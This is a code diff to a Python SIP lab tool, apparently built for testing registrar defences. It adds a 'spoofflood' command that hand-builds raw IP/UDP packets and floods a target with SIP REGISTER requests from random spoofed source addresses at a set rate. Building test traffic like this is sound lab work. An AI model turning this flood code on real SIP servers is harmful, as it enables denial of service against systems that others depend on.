@@ -8,6 +8,9 @@
   sipnode.py spoof SRC_IP DST_IP METHOD USER CALLID [COUNT] [VIA]
       the same through a raw socket, with a source address the
       namespace does not own (it never answers ARP for it).
+  sipnode.py spoofflood NET DST_IP RATE SECONDS
+      REGISTERs from random sources in NET (a /16 prefix like 10.99),
+      random identities, Via = source: a spoofed-source flood, paced.
   sipnode.py send SRC_IP DST_IP METHOD USER CALLID [COUNT] [VIA]
       sends COUNT requests (default 1) from SRC_IP:5060 with From
       USER@lab.example and Via VIA (default SRC_IP); for REGISTER, waits
@@ -104,11 +107,37 @@ def spoof(src, dst, method, user, callid, count=1, via=None):
     return 0
 
 
+def spoofflood(net, dst, rate, seconds):
+    import random
+    import struct
+    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
+    rate, seconds = float(rate), float(seconds)
+    start = time.time()
+    n = 0
+    while time.time() - start < seconds:
+        while n < (time.time() - start) * rate:
+            src = "%s.%d.%d" % (net, random.randint(1, 254),
+                                random.randint(1, 254))
+            user = "u%d" % random.randint(1, 10 ** 6)
+            payload = request("REGISTER", user, src, dst, "sf-%d" % n, 1, src)
+            udp = struct.pack("!HHHH", 5060, 5060, 8 + len(payload), 0)
+            ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0,
+                             20 + 8 + len(payload), 0, 0, 64, 17, 0,
+                             socket.inet_aton(src), socket.inet_aton(dst))
+            s.sendto(ip + udp + payload, (dst, 0))
+            n += 1
+        time.sleep(0.001)
+    print(n)
+    return 0
+
+
 if __name__ == "__main__":
     if len(sys.argv) == 5 and sys.argv[1] == "registrar":
         registrar(*sys.argv[2:])
     elif len(sys.argv) >= 7 and sys.argv[1] == "send":
         sys.exit(send(*sys.argv[2:]))
+    elif len(sys.argv) == 6 and sys.argv[1] == "spoofflood":
+        sys.exit(spoofflood(*sys.argv[2:]))
     elif len(sys.argv) >= 7 and sys.argv[1] == "spoof":
         sys.exit(spoof(*sys.argv[2:]))
     else:
